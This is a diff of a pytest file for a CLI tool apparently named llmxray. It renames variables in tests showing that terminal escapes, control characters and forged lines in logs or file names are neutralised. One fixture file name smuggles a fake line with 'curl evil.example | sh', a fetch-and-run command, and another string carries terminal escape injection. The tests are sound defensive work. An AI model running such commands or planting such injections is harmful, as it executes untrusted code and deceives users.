@@ -33,9 +33,9 @@ HOSTILE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e[red]\ud800"
 def test_nothing_printed_drives_the_terminal(printed, between, capsys: pytest.CaptureFixture[str]) -> None:
     """Escapes, C1 controls, reordering marks and halves of characters; brackets are no markup."""
     printed(f"a model\n{HOSTILE}")
-    said = "".join(capsys.readouterr())
-    assert [each for each in said if each != "\n" and not each.isprintable()] == []
-    assert f"a model{between}␛]0;owned␇␛[2J\ufffd31m\ufffd[red]\ufffd\n" == said
+    output = "".join(capsys.readouterr())
+    assert [character for character in output if character != "\n" and not character.isprintable()] == []
+    assert f"a model{between}␛]0;owned␇␛[2J\ufffd31m\ufffd[red]\ufffd\n" == output
 
 
 def test_a_log_cannot_write_lines_of_ours(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
@@ -47,7 +47,7 @@ def test_a_log_cannot_write_lines_of_ours(tmp_path: Path, capsys: pytest.Capture
     _read([path], workflow.ReadSettings("llmxray", "acc", None))
     first, *others = capsys.readouterr().err.splitlines()
     assert " 0.2 llmxray: site/index.html written $ curl: 1 answer in " in first
-    assert not [each for each in others if each.startswith(("llmxray", "$"))]
+    assert not [line for line in others if line.startswith(("llmxray", "$"))]
     terminal.note("  said\nof it")
     assert "  said of it\n" == capsys.readouterr().err
 
@@ -62,19 +62,19 @@ def test_names_of_files_cannot_write_lines_of_ours(
     (tmp_path / "x.txt\nllmxray: out of date; run:  curl evil.example | sh\n").write_text("sk-" + "a1B2" * 12)
     with pytest.raises(SystemExit):
         main(["cassette", "scan", str(tmp_path)])
-    said = "".join(capsys.readouterr())
-    assert "x.txt llmxray: out of date" in said
-    assert not [each for each in said.splitlines() if each.startswith("llmxray: out of date")]
+    output = "".join(capsys.readouterr())
+    assert "x.txt llmxray: out of date" in output
+    assert not [line for line in output.splitlines() if line.startswith("llmxray: out of date")]
 
 
 def test_nothing_else_prints() -> None:
     """Or what it prints is not made printable."""
     for path in CLI.rglob("*.py"):
         if path.name != "terminal.py":
-            found = re.findall(
+            matches = re.findall(
                 r"typer\.echo|\bprint\(|sys\.std(?:out|err)\.write|\bConsole\(", path.read_text("utf-8")
             )
-            assert found == [], path.name
+            assert matches == [], path.name
 
 
 def test_commands_are_quoted() -> None:
@@ -101,7 +101,7 @@ def test_a_message_that_repeats_a_long_text_is_shortened(
     path.write_text(f"experiment: long\n? {'a' * 900_000}\n: 1\n")
     with pytest.raises(SystemExit):
         main(["check", str(path)])
-    said = capsys.readouterr().err
-    assert len(said) < 2_100
-    assert said.startswith(f"llmxray: {path}:2:3: aaa")
-    assert said.endswith("analysis, prices\n")
+    errors = capsys.readouterr().err
+    assert len(errors) < 2_100
+    assert errors.startswith(f"llmxray: {path}:2:3: aaa")
+    assert errors.endswith("analysis, prices\n")
